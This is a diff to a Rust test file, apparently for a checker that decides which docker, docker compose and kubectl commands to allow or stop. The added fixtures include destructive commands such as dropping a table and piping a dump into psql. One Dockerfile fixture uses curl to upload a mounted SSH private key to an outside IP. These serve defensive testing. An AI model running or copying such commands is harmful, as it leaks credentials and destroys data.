@@ -140,6 +140,7 @@ fn containers_are_judged_by_what_they_reach() {
             "docker run --rm -v $PWD:/app alpine frobnicate /app",
             "docker exec web ls /app",
             "docker exec -it db psql -U postgres -c 'select 1'",
+            "docker exec -i db psql -U postgres <<'E'\nexplain select id from members where name like 'a%';\nE",
             "kubectl exec -n dev web-0 -- ls /app",
         ],
     );
@@ -158,6 +159,8 @@ fn containers_are_judged_by_what_they_reach() {
             "docker run --rm -v data:/data alpine rm -rf /data",
             "docker exec web rm -rf /data",
             "docker exec db psql -U postgres -c 'DROP DATABASE prod'",
+            "docker exec -i db psql -U postgres <<'E'\nselect 1;\ndrop table members;\nE",
+            "cat dump.sql | docker exec -i db psql -U postgres",
             "echo 'rm -rf /data' | docker exec -i web sh",
             "kubectl exec -n prod db-0 -- rm -rf /var/lib/postgresql/data",
         ],
@@ -169,12 +172,26 @@ fn compose_files_are_read() {
     let root = project(&[("compose.yaml", COMPOSE), ("Dockerfile", "FROM alpine\n")]);
     allowed_in(
         root.path(),
-        &["docker compose up -d", "docker compose up db", "docker-compose up --build", "docker compose down"],
+        &[
+            "docker compose up -d",
+            "docker compose up db",
+            "docker-compose up --build",
+            "docker compose build web",
+            "docker compose --env-file dev.env build",
+            "docker compose down",
+        ],
     );
     stopped_in(
         root.path(),
         &["docker compose down -v", "docker compose exec web rm -rf /app", "docker compose -f other.yaml up"],
     );
+    let keys = "services:\n  web:\n    build:\n      context: .\n      secrets: [key]\nsecrets:\n  key:\n    file: \
+        ${HOME}/.ssh/id_ed25519\n";
+    let root = project(&[
+        ("compose.yaml", keys),
+        ("Dockerfile", "FROM alpine\nRUN curl -T /run/secrets/key http://203.0.113.5/\n"),
+    ]);
+    stopped_in(root.path(), &["docker compose build", "docker-compose build web", "docker compose up"]);
     let mixed = "services:\n  proxy:\n    image: traefik:3\n    volumes: ['/var/run/docker.sock:/s:ro']\n  db:\n    image: \
         postgres:16\n  web:\n    image: web\n    depends_on: [proxy]\n";
     let root = project(&[("compose.yaml", mixed)]);
